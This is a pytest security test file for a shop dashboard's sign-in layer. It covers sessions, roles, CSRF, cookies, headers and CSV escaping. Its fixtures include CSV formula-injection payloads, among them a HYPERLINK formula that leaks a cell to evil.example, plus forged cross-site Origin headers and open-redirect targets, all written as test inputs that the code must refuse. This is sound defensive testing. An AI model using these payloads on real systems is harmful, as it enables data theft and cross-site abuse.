"""The dashboard's door against a real ``shopmind serve``: accounts with roles and server-side
sessions, CSRF on every POST, Secure cookies behind TLS, headers on pages and exports, and CSV
exports that spreadsheets open as text. Each test reproduces one fault of the old door (an HMAC
of an expiry signed with a per-process secret, signed into with the API key)."""

from __future__ import annotations

import copy
import csv
import io
import json
import re
import subprocess
import sys
from collections.abc import Iterator
from dataclasses import dataclass
from datetime import UTC, datetime, timedelta
from pathlib import Path
from typing import Any

import httpx
import pyarrow as pa
import pytest
from fastapi.openapi.utils import get_openapi
from fastapi.routing import APIRoute

from shopmind import web
from shopmind.audiences import SIGNATURE_HEADER, add_webhook, verify_signature
from shopmind.core import FixedClock, verify_password
from shopmind.segments import spreadsheet_safe, write_csv
from shopmind.store import (
    KeyRing,
    Store,
    Workspace,
    create_user,
    credentials,
    list_users,
    session_hash,
    session_user,
    set_password,
    start_session,
)
from shopmind.web import _login
from tests.serving import DashboardClient, Server
from tests.test_exports_webhook import Receiver

AS_OF = datetime(2026, 4, 1, tzinfo=UTC)
WEBHOOK_SECRET = "whsec_door_0123456789abcdef"
#: member ids a visitor could send, each starting like a spreadsheet formula, and a plain one
HOSTILE = {
    "p1": '=HYPERLINK("http://evil.example/?leak="&A2,"보기")',
    "p2": "+82-10-1234",
    "p3": "-2+3",
    "p4": "@SUM(A1:A9)",
    "p5": "\t=1+1",
    "p6": "\r=1+1",
    "p7": "m0007",
}
HTML = {"Accept": "text/html"}


@dataclass
class Door:
    server: Server
    passwords: dict[str, str]  # login (= the role's name) → password
    receiver: Receiver  # the webhook destination "crm" the shop's admin registered

    def sign_in(self, login: str, **headers: str) -> DashboardClient:
        return self.server.dashboard(login, self.passwords[login], **headers)


def _plant_audience(store: Store) -> None:
    """A purchase-probability run whose profiles carry the hostile member ids."""
    store.sql(
        "INSERT INTO profiles SELECT * FROM (VALUES " + ", ".join("(?, ?, 'user')" for _ in HOSTILE) + ")",
        [v for pid, member in HOSTILE.items() for v in (f"user:{member}", pid)],
    )
    run = store.begin_run("purchase_probability", AS_OF)
    scores = pa.table(
        {
            "profile_id": list(HOSTILE),
            "name": ["purchase_probability_7d"] * len(HOSTILE),
            "value": [0.1 * (i + 1) for i in range(len(HOSTILE))],
        }
    )
    store.write_scores(run, AS_OF, scores)
    store.finish_run(run)


@pytest.fixture(scope="module")
def door(tmp_path_factory: pytest.TempPathFactory) -> Iterator[Door]:
    folder = tmp_path_factory.mktemp("door") / "shop"
    receiver = Receiver()
    with Workspace.init(folder).open_store() as store:
        _plant_audience(store)
        add_webhook(store, "crm", receiver.url, created_by="test", secret=WEBHOOK_SECRET)
    server = Server(folder, args=("--no-recommender",))
    passwords = {role: server.add_user(role, role) for role in ("owner", "marketer", "viewer")}
    server.start()
    try:
        yield Door(server, passwords, receiver)
    finally:
        receiver.close()
        assert server.stop() == 0


def _signed_out(client: httpx.Client) -> bool:
    answer = client.get("/dashboard/overview", headers=HTML)
    return answer.status_code == 303 and answer.headers["location"].startswith("/dashboard/login")


def _user_id(owner: DashboardClient, login: str) -> str:
    found = re.search(
        rf'data-login="{re.escape(login)}" data-user="([0-9a-f]+)"', owner.get("/dashboard/users").text
    )
    assert found, login
    return found[1]


# -- sessions ---------------------------------------------------------------------------------
def test_logout_ends_the_session_on_the_server(door: Door) -> None:
    """Before: logout only deleted the cookie; a copy of it stayed valid for 12 hours."""
    client = door.sign_in("viewer")
    stolen = client.cookies["shopmind_session"]
    assert client.post("/dashboard/logout", data={"csrf_token": client.csrf}).status_code == 303
    with httpx.Client(base_url=door.server.url, cookies={"shopmind_session": stolen}) as replay:
        assert _signed_out(replay)
    assert _signed_out(client)


def test_the_cookie_is_a_random_token_not_a_signed_expiry(door: Door) -> None:
    client = door.sign_in("viewer")
    token = client.cookies["shopmind_session"]
    assert re.fullmatch(r"[A-Za-z0-9_-]{43}", token), token
    expires = str(int(datetime.now(UTC).timestamp()) + 3600)
    for forged in (f"{expires}.{'0' * 64}", token[:-1] + ("A" if token[-1] != "A" else "B")):
        with httpx.Client(base_url=door.server.url, cookies={"shopmind_session": forged}) as c:
            assert _signed_out(c)


def test_revoking_a_users_sessions_ends_them_at_once(door: Door) -> None:
    """Before: revoking the key used to sign in ended no session. Now an owner ends every
    session of an account, effective on the very next request (no cache delay)."""
    owner = door.sign_in("owner")
    marketer = door.sign_in("marketer")
    assert marketer.get("/dashboard/overview").status_code == 200  # cached as valid now
    user = _user_id(owner, "marketer")
    answer = owner.post(f"/dashboard/users/{user}/sessions/revoke", data={"csrf_token": owner.csrf})
    assert answer.status_code == 303 and answer.headers["location"].endswith("done=revoked")
    assert _signed_out(marketer)
    data = marketer.get(
        "/dashboard/predictions/audience?low=0&high=1", headers={"Accept": "application/json"}
    )
    assert data.status_code == 401
    assert owner.get("/dashboard/overview").status_code == 200  # the owner's own session stays


def test_disabling_a_user_ends_the_session_and_the_sign_in(door: Door) -> None:
    server = door.server
    owner = door.sign_in("owner")
    password = "temp-user-pass"
    created = owner.post(
        "/dashboard/users",
        data={"login": "temp", "password": password, "role": "viewer", "csrf_token": owner.csrf},
    )
    assert created.status_code == 303
    temp = server.dashboard("temp", password)
    assert temp.get("/dashboard/overview").status_code == 200
    user = _user_id(owner, "temp")
    assert owner.post(f"/dashboard/users/{user}/disable", data={"csrf_token": owner.csrf}).status_code == 303
    assert _signed_out(temp)
    with pytest.raises(AssertionError):  # a disabled account cannot sign in again
        server.dashboard("temp", password)
    assert owner.post(f"/dashboard/users/{user}/enable", data={"csrf_token": owner.csrf}).status_code == 303
    assert server.dashboard("temp", password).get("/dashboard/overview").status_code == 200


def test_a_revoked_secret_key_opens_nothing_at_once(door: Door) -> None:
    """Tools may still read with ``Authorization: Bearer <secret key>``; revoking the key ends
    that at once, and the key never signs a person in."""
    ring = KeyRing(door.server.workspace)
    described, key = ring.create("secret")
    with door.server.client(key) as tool:
        assert tool.get("/dashboard/predictions/audience?low=0&high=1").status_code == 200
        assert tool.get("/dashboard/users").status_code == 403  # a tool is never an owner
        ring.revoke(described.key_id)
        assert tool.get("/dashboard/predictions/audience?low=0&high=1").status_code == 401
    with httpx.Client(base_url=door.server.url) as c:
        token = re.search(r'name="login_token" value="([^"]+)"', c.get("/dashboard/login").text)
        assert token
        answer = c.post(
            "/dashboard/login",
            data={"login": "x", "password": door.server.secret_key, "login_token": token[1]},
        )
        assert answer.status_code == 401 and "shopmind_session" not in answer.cookies


def test_wrong_passwords_and_unknown_logins_are_refused_alike(door: Door) -> None:
    with httpx.Client(base_url=door.server.url) as c:
        token = re.search(r'name="login_token" value="([^"]+)"', c.get("/dashboard/login").text)
        assert token
        for login, password in (("owner", "not-the-password"), ("nobody", door.passwords["owner"])):
            answer = c.post(
                "/dashboard/login", data={"login": login, "password": password, "login_token": token[1]}
            )
            assert answer.status_code == 401
            assert "아이디 또는 비밀번호가 맞지 않습니다" in answer.text
        # the login name is compared without case or surrounding spaces
        answer = c.post(
            "/dashboard/login",
            data={"login": " OWNER ", "password": door.passwords["owner"], "login_token": token[1]},
        )
        assert answer.status_code == 303 and answer.cookies.get("shopmind_session")


# -- roles --------------------------------------------------------------------------------------
def test_each_role_does_what_it_may_and_no_more(door: Door) -> None:
    viewer, marketer, owner = (door.sign_in(r) for r in ("viewer", "marketer", "owner"))
    csv_url = "/dashboard/predictions/audience.csv?low=0&high=1"
    body = {"name": "역할 시험", "low": 0.0, "high": 1.0}
    for client, may_export, may_manage in (
        (viewer, False, False),
        (marketer, True, False),
        (owner, True, True),
    ):
        assert client.get("/dashboard/predictions").status_code == 200
        assert client.get("/dashboard/predictions/audience?low=0&high=1").status_code == 200
        assert client.get(csv_url).status_code == (200 if may_export else 403)
        saved = client.post(
            "/dashboard/predictions/audiences", json=body, headers={"X-CSRF-Token": client.csrf}
        )
        assert saved.status_code == (201 if may_export else 403), saved.text
        assert client.get("/dashboard/users").status_code == (200 if may_manage else 403)
        nav = client.get("/dashboard/overview").text
        assert ('data-page="users"' in nav) == may_manage
    page = viewer.get("/dashboard/predictions").text
    assert 'id="export-csv"' not in page and 'id="marketer-only"' in page
    forbidden = viewer.get(csv_url)
    assert "역할로는 할 수 없는" in forbidden.text and forbidden.headers["content-type"].startswith(
        "text/html"
    )


def test_a_role_change_applies_to_open_sessions_at_once(door: Door) -> None:
    owner = door.sign_in("owner")
    password = "demote-me-please"
    owner.post(
        "/dashboard/users",
        data={"login": "demoted", "password": password, "role": "marketer", "csrf_token": owner.csrf},
    )
    marketer = door.server.dashboard("demoted", password)
    csv_url = "/dashboard/predictions/audience.csv?low=0&high=1"
    assert marketer.get(csv_url).status_code == 200
    user = _user_id(owner, "demoted")
    changed = owner.post(f"/dashboard/users/{user}/role", data={"role": "viewer", "csrf_token": owner.csrf})
    assert changed.status_code == 303
    assert marketer.get(csv_url).status_code == 403


def test_the_last_owner_stays_and_bad_forms_are_named(door: Door) -> None:
    owner = door.sign_in("owner")
    me = _user_id(owner, "owner")
    refused = owner.post(f"/dashboard/users/{me}/disable", data={"csrf_token": owner.csrf})
    assert refused.status_code == 409 and "마지막 소유자" in refused.text
    refused = owner.post(f"/dashboard/users/{me}/role", data={"role": "viewer", "csrf_token": owner.csrf})
    assert refused.status_code == 409
    assert owner.get("/dashboard/overview").status_code == 200
    cases = (
        ({"login": "owner", "password": "long enough"}, 409, "이미 쓰고 있는 아이디"),
        ({"login": "has space", "password": "long enough"}, 400, "공백 없이"),
        ({"login": "short", "password": "1234"}, 400, "8자 이상"),
        ({"login": "badrole", "password": "long enough", "role": "admin"}, 400, "역할을 고르세요"),
    )
    for form, status, words in cases:
        answer = owner.post("/dashboard/users", data={**form, "csrf_token": owner.csrf})
        assert answer.status_code == status and words in answer.text, (form, answer.status_code)
    english = owner.post(
        "/dashboard/users?lang=en",
        data={"login": "owner", "password": "long enough", "csrf_token": owner.csrf},
    )
    assert english.status_code == 409 and "That login name is taken." in english.text
    assert owner.post("/dashboard/users/nope/disable", data={"csrf_token": owner.csrf}).status_code == 404


def test_the_users_page_reads_in_korean_and_english(door: Door) -> None:
    owner = door.sign_in("owner")
    korean = owner.get("/dashboard/users").text
    for words in ("사용자", "새 계정", "모든 세션 끊기", "소유자", "마케터", "열람자"):
        assert words in korean
    english = owner.get("/dashboard/users?lang=en").text
    for words in ("Users", "New account", "End all sessions", "Owner", "Marketer", "Viewer"):
        assert words in english
    assert "계정" not in english


# -- CSRF -------------------------------------------------------------------------------------
def test_every_post_needs_the_sessions_csrf_token_and_this_origin(door: Door) -> None:
    owner = door.sign_in("owner")
    form = {"login": "csrf-victim", "password": "long enough", "role": "viewer"}
    for extra, headers in (
        ({}, {}),  # no token
        ({"csrf_token": "0" * 64}, {}),  # a wrong token
        (
            {"csrf_token": owner.csrf},
            {"Origin": "https://evil.example"},
        ),  # the right token, from another site
        ({"csrf_token": owner.csrf}, {"Referer": "https://evil.example/page"}),
    ):
        answer = owner.post("/dashboard/users", data={**form, **extra}, headers=headers)
        assert answer.status_code == 403, (extra, headers)
    json_post = owner.post(
        "/dashboard/predictions/audiences",
        json={"name": "x", "low": 0, "high": 1},
        headers={"Accept": "application/json"},
    )
    assert json_post.status_code == 403 and json_post.json()["error"] == "forbidden"
    assert "csrf-victim" not in owner.get("/dashboard/users").text
    made = owner.post(
        "/dashboard/users", data={**form, "csrf_token": owner.csrf}, headers={"Origin": door.server.url}
    )
    assert made.status_code == 303
    # one session's token is not another's
    other = door.sign_in("owner")
    assert other.csrf != owner.csrf
    assert (
        owner.post("/dashboard/users", data={**form, "login": "x2", "csrf_token": other.csrf}).status_code
        == 403
    )


def test_login_and_logout_cannot_be_posted_from_another_site(door: Door) -> None:
    """Before: a page anywhere could sign the browser in (to the attacker's account) or out."""
    server = door.server
    with httpx.Client(base_url=server.url) as browser:
        form = {"login": "owner", "password": door.passwords["owner"], "next": "/dashboard/overview"}
        # another site's form: no sign-in token cookie reaches us (SameSite), and its Origin
        cross = browser.post(
            "/dashboard/login",
            data={**form, "login_token": "x" * 32},
            headers={"Origin": "https://evil.example"},
        )
        assert cross.status_code == 403 and "shopmind_session" not in cross.cookies
        token = re.search(r'name="login_token" value="([^"]+)"', browser.get("/dashboard/login").text)
        assert token
        forged = browser.post(
            "/dashboard/login",
            data={**form, "login_token": token[1]},
            headers={"Origin": "https://evil.example"},
        )
        assert forged.status_code == 403 and "shopmind_session" not in forged.cookies
        mismatched = browser.post("/dashboard/login", data={**form, "login_token": "y" * 32})
        assert mismatched.status_code == 403 and "만료" in mismatched.text
    victim = door.sign_in("viewer")
    logout = victim.post("/dashboard/logout", headers={"Origin": "https://evil.example"})
    assert logout.status_code == 403
    assert victim.get("/dashboard/overview").status_code == 200  # still signed in


def test_after_sign_in_only_this_dashboards_paths_are_followed(door: Door) -> None:
    with httpx.Client(base_url=door.server.url) as c:
        for target in (
            "https://evil.example/",
            "//evil.example/x",
            "/dashboard/\\evil.example",
            "/v1/quarantine",
        ):
            token = re.search(r'name="login_token" value="([^"]+)"', c.get("/dashboard/login").text)
            assert token
            answer = c.post(
                "/dashboard/login",
                data={
                    "login": "viewer",
                    "password": door.passwords["viewer"],
                    "next": target,
                    "login_token": token[1],
                },
            )
            assert answer.status_code == 303 and answer.headers["location"] == "/dashboard/overview", target


# -- cookies and headers ----------------------------------------------------------------------
def _set_cookies(answer: httpx.Response) -> dict[str, str]:
    return {h.split("=", 1)[0]: h for h in answer.headers.get_list("set-cookie")}


def test_cookies_are_httponly_samesite_and_not_secure_over_plain_http(door: Door) -> None:
    with httpx.Client(base_url=door.server.url) as c:
        form = c.get("/dashboard/login", headers={"X-Forwarded-Proto": "https"})  # not trusted by default
        login_cookie = _set_cookies(form)["shopmind_login"]
        assert "HttpOnly" in login_cookie and "SameSite=lax" in login_cookie and "Secure" not in login_cookie
        token = re.search(r'name="login_token" value="([^"]+)"', form.text)
        assert token
        answer = c.post(
            "/dashboard/login",
            data={"login": "viewer", "password": door.passwords["viewer"], "login_token": token[1]},
            headers={"X-Forwarded-Proto": "https"},
        )
        session = _set_cookies(answer)["shopmind_session"]
        assert "HttpOnly" in session and "SameSite=lax" in session and "Path=/dashboard" in session
        assert "Secure" not in session


def test_pages_and_exports_with_personal_data_are_not_stored_sniffed_or_framed(door: Door) -> None:
    marketer = door.sign_in("marketer")
    owner = door.sign_in("owner")
    answers = {
        "page": marketer.get("/dashboard/predictions"),
        "csv": marketer.get("/dashboard/predictions/audience.csv?low=0&high=1"),
        "json": marketer.get("/dashboard/predictions/audience?low=0&high=1"),
        "users": owner.get("/dashboard/users"),
        "login": httpx.get(door.server.url + "/dashboard/login"),
        "redirect": httpx.get(door.server.url + "/dashboard/overview", headers=HTML),
        "forbidden": door.sign_in("viewer").get("/dashboard/users"),
    }
    for name, answer in answers.items():
        assert answer.headers.get("cache-control") == "no-store", name
        assert answer.headers.get("x-content-type-options") == "nosniff", name
        assert answer.headers.get("content-security-policy") == "frame-ancestors 'none'", name
        assert answer.headers.get("x-frame-options") == "DENY", name
    static = httpx.get(door.server.url + "/dashboard/static/dashboard.js")
    assert static.headers["x-content-type-options"] == "nosniff"
    assert "max-age" in static.headers["cache-control"]  # its own long cache, no personal data
    api = httpx.get(door.server.url + "/healthz")
    assert "x-frame-options" not in api.headers  # the API's answers are left as they were


# -- CSV --------------------------------------------------------------------------------------
def test_the_audience_csv_writes_formula_like_ids_as_text(door: Door) -> None:
    """Before: the member id ``=HYPERLINK(…)`` reached the CSV verbatim, with a BOM so Excel opens it."""
    marketer = door.sign_in("marketer")
    answer = marketer.get("/dashboard/predictions/audience.csv?low=0&high=1")
    assert answer.status_code == 200 and answer.content.startswith("\ufeff".encode())
    rows = list(csv.reader(io.StringIO(answer.content.decode("utf-8-sig"))))
    members = {r[0]: r[1] for r in rows[1:]}
    assert set(members) == set(HOSTILE)
    for pid, member in HOSTILE.items():
        expected = member if pid == "p7" else "'" + member
        assert members[pid] == expected, (pid, members[pid])
    for row in rows[1:]:
        for cell in row:
            assert not cell.startswith(("=", "+", "-", "@", "\t", "\r")), row
        assert float(row[2]) > 0  # numbers stay numbers


def test_segments_each_role_does_what_it_may_and_every_post_needs_its_token(door: Door) -> None:
    """Viewers see segments and preview them; only marketers (and owners) save, count again and
    export; every POST of the Segments page needs the session's CSRF token from this origin; the
    saved segment's CSV writes formula-like member ids as text."""
    viewer, marketer = door.sign_in("viewer"), door.sign_in("marketer")
    state = {
        "name_ko": "역할 시험 세그먼트",
        "conditions": [{"kind": "profile", "field": "purchase_probability_7d", "low": "0"}],
    }
    form = {"state": json.dumps(state)}
    for client in (viewer, marketer):
        assert client.get("/dashboard/segments").status_code == 200
        assert client.get("/dashboard/segments/new").status_code == 200
        found = client.post(
            "/dashboard/segments/preview",
            json=state,
            headers={"X-CSRF-Token": client.csrf, "Accept": "application/json"},
        )
        assert found.status_code == 200 and found.json()["count"] == len(HOSTILE), found.text
    assert 'id="save-segment"' not in viewer.get("/dashboard/segments/new").text
    assert viewer.post("/dashboard/segments/new", data={**form, "csrf_token": viewer.csrf}).status_code == 403
    for extra, headers in (
        ({}, {}),
        ({"csrf_token": "0" * 64}, {}),
        ({"csrf_token": marketer.csrf}, {"Origin": "https://evil.example"}),
    ):
        answer = marketer.post("/dashboard/segments/new", data={**form, **extra}, headers=headers)
        assert answer.status_code == 403, (extra, headers)
    no_header = marketer.post(
        "/dashboard/segments/preview", json=state, headers={"Accept": "application/json"}
    )
    assert no_header.status_code == 403
    assert "역할 시험 세그먼트" not in marketer.get("/dashboard/segments").text  # nothing was saved
    saved = marketer.post("/dashboard/segments/new", data={**form, "csrf_token": marketer.csrf})
    assert saved.status_code == 303, saved.text[:500]
    page = saved.headers["location"].split("?")[0]
    segment_id = page.rsplit("/", 1)[1]
    seen = viewer.get(page)
    assert (
        seen.status_code == 200 and 'id="export-csv"' not in seen.text and 'id="marketer-only"' in seen.text
    )
    for action in ("export", "refresh", "webhook"):
        answer = viewer.post(
            f"/dashboard/segments/{segment_id}/{action}",
            data={"csrf_token": viewer.csrf, "format": "csv", "destination": "crm"},
        )
        assert answer.status_code == 403, action
        answer = marketer.post(f"/dashboard/segments/{segment_id}/{action}", data={"format": "csv"})
        assert answer.status_code == 403, action  # no token
    answer = marketer.post(
        f"/dashboard/segments/{segment_id}/export", data={"csrf_token": marketer.csrf, "format": "csv"}
    )
    assert answer.status_code == 200 and answer.content.startswith("\ufeff".encode())
    assert answer.headers["cache-control"] == "no-store"
    rows = list(csv.DictReader(io.StringIO(answer.content.decode("utf-8-sig"))))
    members = {r["profile_id"]: r["member_id"] for r in rows}
    assert set(members) == set(HOSTILE)
    for pid, member in HOSTILE.items():
        assert members[pid] == (member if pid == "p7" else "'" + member), pid
    recount = marketer.post(f"/dashboard/segments/{segment_id}/refresh", data={"csrf_token": marketer.csrf})
    assert recount.status_code == 303 and "done=refreshed&entered=0&exited=0" in recount.headers["location"]
    # the registered webhook: offered on the page, the members sent signed, the page says so
    assert '<option value="crm">crm</option>' in marketer.get(page).text
    sent = marketer.post(
        f"/dashboard/segments/{segment_id}/webhook", data={"csrf_token": marketer.csrf, "destination": "crm"}
    )
    assert sent.status_code == 303 and sent.headers["location"].endswith(f"done=sent&n={len(HOSTILE)}&to=crm")
    headers, body, status = door.receiver.got[-1]
    assert status == 200 and verify_signature(WEBHOOK_SECRET, headers[SIGNATURE_HEADER], body)
    assert {m["profile_id"] for m in json.loads(body)["members"]} == set(HOSTILE)
    assert "웹훅 crm으로 고객 7명을 보냈습니다." in marketer.get(sent.headers["location"]).text
    missing = marketer.post(
        f"/dashboard/segments/{segment_id}/webhook", data={"csrf_token": marketer.csrf, "destination": "nope"}
    )
    assert missing.status_code == 303 and missing.headers["location"].endswith("problem=no_destination")
    assert marketer.get("/dashboard/segments/0000").status_code == 404


def test_spreadsheet_safe_and_write_csv() -> None:
    assert spreadsheet_safe("=1+1") == "'=1+1"
    assert spreadsheet_safe("김치") == "김치"
    assert spreadsheet_safe(None) == ""
    assert spreadsheet_safe(-3.5) == -3.5  # a number is not a formula
    out = io.StringIO()
    assert write_csv(out, ["id", "n"], [["@x", 1], ["ok", -2]]) == 2
    assert list(csv.reader(io.StringIO(out.getvalue()))) == [["id", "n"], ["'@x", "1"], ["ok", "-2"]]


# -- accounts across restarts, the CLI and a TLS proxy ------------------------------------------
def test_an_owner_made_by_the_cli_signs_in_and_sessions_outlive_a_restart(tmp_path: Path) -> None:
    """The first owner comes from ``shopmind users create`` while the server is stopped; a
    session survives a restart (it is stored, not signed with a per-process secret) and a
    server told to trust its TLS proxy marks the cookies Secure."""
    server = Server(tmp_path / "shop", args=("--no-recommender", "--forwarded-proto"))
    made = subprocess.run(
        [
            sys.executable,
            "-m",
            "shopmind",
            "users",
            "create",
            "--login",
            "first",
            "--role",
            "owner",
            "--name",
            "첫 소유자",
            "--password-stdin",
            "-w",
            str(server.workspace),
        ],
        input="first-owner-pass\n",
        capture_output=True,
        text=True,
        timeout=120,
    )
    assert made.returncode == 0, made.stderr
    listed = subprocess.run(
        [sys.executable, "-m", "shopmind", "users", "list", "-w", str(server.workspace)],
        capture_output=True,
        text=True,
        timeout=120,
    )
    assert "first" in listed.stdout and "owner" in listed.stdout
    server.start()
    try:
        owner = server.dashboard("first", "first-owner-pass")
        assert "첫 소유자" in owner.get("/dashboard/overview").text
        token = owner.cookies["shopmind_session"]
        # behind a TLS proxy (trusted): Secure cookies, which a client sends back only over TLS
        proxied = {"X-Forwarded-Proto": "https", "Origin": "https://" + server.url.removeprefix("http://")}
        with httpx.Client(base_url=server.url) as c:
            form = c.get("/dashboard/login", headers=proxied)
            login_cookie = _set_cookies(form)["shopmind_login"]
            assert "Secure" in login_cookie
            login_token = re.search(r'name="login_token" value="([^"]+)"', form.text)
            assert login_token
            answer = c.post(
                "/dashboard/login",
                data={"login": "first", "password": "first-owner-pass", "login_token": login_token[1]},
                headers={**proxied, "Cookie": f"shopmind_login={login_token[1]}"},
            )
            assert answer.status_code == 303
            assert "Secure" in _set_cookies(answer)["shopmind_session"]
    finally:
        assert server.stop() == 0
    server.start()
    try:
        with httpx.Client(base_url=server.url, cookies={"shopmind_session": token}) as again:
            assert again.get("/dashboard/overview", headers=HTML).status_code == 200
    finally:
        assert server.stop() == 0
    # while stopped, the CLI ends the sessions; the next start refuses the cookie
    revoked = subprocess.run(
        [
            sys.executable,
            "-m",
            "shopmind",
            "users",
            "sessions",
            "revoke",
            "first",
            "-w",
            str(server.workspace),
        ],
        capture_output=True,
        text=True,
        timeout=120,
    )
    assert revoked.returncode == 0 and "ended 2 session" in revoked.stderr, revoked.stderr
    server.start()
    try:
        with httpx.Client(base_url=server.url, cookies={"shopmind_session": token}) as again:
            assert _signed_out(again)
    finally:
        assert server.stop() == 0


# -- fuzzing ------------------------------------------------------------------------------------
def _dashboard_schema() -> dict[str, Any]:
    """The dashboard's routes (left out of the API's OpenAPI document) as an OpenAPI document of
    their own: every form and page but the sign-out (it would end the fuzzer's session)."""
    routes = []
    for module in (_login, *web.PAGE_MODULES):
        for route in module.router.routes:
            if isinstance(route, APIRoute) and route.path != "/dashboard/logout":
                shown = copy.copy(route)
                shown.include_in_schema = True
                routes.append(shown)
    return get_openapi(title="shopmind dashboard", version="1", routes=routes)


def test_fuzzing_the_dashboards_forms_finds_no_server_error(door: Door, tmp_path: Path) -> None:
    schema = _dashboard_schema()
    paths = schema["paths"]
    assert isinstance(paths, dict)
    posts = {p for p, ops in paths.items() if "post" in ops}
    assert {
        "/dashboard/login",
        "/dashboard/users",
        "/dashboard/users/{user_id}/role",
        "/dashboard/users/{user_id}/disable",
        "/dashboard/users/{user_id}/sessions/revoke",
        "/dashboard/predictions/audiences",
        "/dashboard/segments/preview",
        "/dashboard/segments/new",
        "/dashboard/segments/{segment_id}/export",
    } <= posts
    owner = door.sign_in("owner")
    # an account of its own for the fuzzer to change, disable and sign out (an example it tries)
    target = owner.post(
        "/dashboard/users",
        data={
            "login": "fuzz-target",
            "password": "fuzz-target-pass",
            "role": "viewer",
            "csrf_token": owner.csrf,
        },
    )
    assert target.status_code == 303
    target_id = _user_id(owner, "fuzz-target")
    target_session = door.server.dashboard("fuzz-target", "fuzz-target-pass")
    for ops in paths.values():
        for op in ops.values():
            for parameter in op.get("parameters", []):
                if parameter["name"] == "user_id":
                    parameter["schema"]["examples"] = [target_id]
                    parameter["example"] = target_id
    (tmp_path / "dashboard.json").write_text(json.dumps(schema))
    cookie = f"shopmind_session={owner.cookies['shopmind_session']}"
    run = subprocess.run(
        [
            str(Path(sys.executable).parent / "schemathesis"),
            "run",
            str(tmp_path / "dashboard.json"),
            "--url",
            door.server.url,
            "--header",
            f"Cookie: {cookie}",
            "--header",
            f"X-CSRF-Token: {owner.csrf}",
            "--header",
            f"Origin: {door.server.url}",
            "--checks",
            "not_a_server_error",
            "--max-examples",
            "25",
            "--generation-deterministic",
            "--no-color",
            "--report-dir",
            str(tmp_path / "schemathesis"),
        ],
        capture_output=True,
        text=True,
        timeout=900,
        cwd=tmp_path,
    )
    summary = run.stdout[-20000:]
    assert run.returncode == 0, summary
    assert f"Tested: {sum(len(ops) for ops in paths.values())}" in summary, summary
    assert owner.get("/dashboard/users").status_code == 200  # the fuzzer's session stayed an owner's
    # it reached the forms' work, not only their refusals: the target's session was ended
    assert _signed_out(target_session)


# -- accounts in the store and on the command line ---------------------------------------------
def test_sessions_expire_and_end_with_a_new_password() -> None:
    clock = FixedClock(AS_OF)
    with Store(":memory:", clock=clock) as store:
        owner = create_user(store, "Owner", "owner", password="first-password")
        token = start_session(store, owner.user_id, timedelta(hours=12))
        assert session_user(store, session_hash(token)) is not None
        stored = store.sql("SELECT session_hash, password_hash FROM dashboard_sessions, users")[0]
        assert token not in stored and "first-password" not in stored[1]  # only hashes are kept
        assert stored[1].startswith("scrypt$16384$8$1$")
        clock.advance(timedelta(hours=12, seconds=1))
        assert session_user(store, session_hash(token)) is None  # expired
        token = start_session(store, owner.user_id, timedelta(hours=12))
        set_password(store, owner.user_id, password="second-password")
        assert session_user(store, session_hash(token)) is None
        found = credentials(store, "OWNER")
        assert found is not None and verify_password("second-password", found[1])
        assert not verify_password("first-password", found[1])


def test_the_users_commands(tmp_path: Path) -> None:
    folder = tmp_path / "shop"
    Workspace.init(folder)

    def shopmind(*args: str, stdin: str = "") -> subprocess.CompletedProcess[str]:
        return subprocess.run(
            [sys.executable, "-m", "shopmind", "users", *args, "-w", str(folder)],
            input=stdin,
            capture_output=True,
            text=True,
            timeout=120,
        )

    # what `make serve` runs: a generated password printed once, and nothing changed the next time
    made = shopmind("create", "--login", "demo", "--role", "owner", "--generate-password", "--exists-ok")
    assert made.returncode == 0, made.stderr
    password = made.stdout.strip()
    again = shopmind("create", "--login", "demo", "--role", "owner", "--generate-password", "--exists-ok")
    assert again.returncode == 0 and again.stdout == "" and "exists already" in again.stderr
    refused = shopmind("disable", "demo")
    assert refused.returncode == 2 and "last active owner" in refused.stderr
    short = shopmind("create", "--login", "kim", "--role", "marketer", "--password-stdin", stdin="short\n")
    assert short.returncode == 2 and "at least 8 characters" in short.stderr
    assert shopmind("create", "--login", "kim", "--password-stdin", stdin="kim-password\n").returncode == 0
    assert shopmind("role", "kim", "--role", "owner").returncode == 0
    assert shopmind("disable", "demo").returncode == 0
    assert shopmind("password", "kim", "--password-stdin", stdin="kim-new-password\n").returncode == 0
    assert shopmind("sessions", "revoke", "nobody").returncode == 2
    with Workspace(folder).open_store() as store:
        users = {u.login: u for u in list_users(store)}
        assert users["demo"].disabled and users["kim"].role == "owner"
        demo = credentials(store, "demo")
        kim = credentials(store, "kim")
        assert demo is not None and verify_password(password, demo[1])
        assert kim is not None and verify_password("kim-new-password", kim[1])
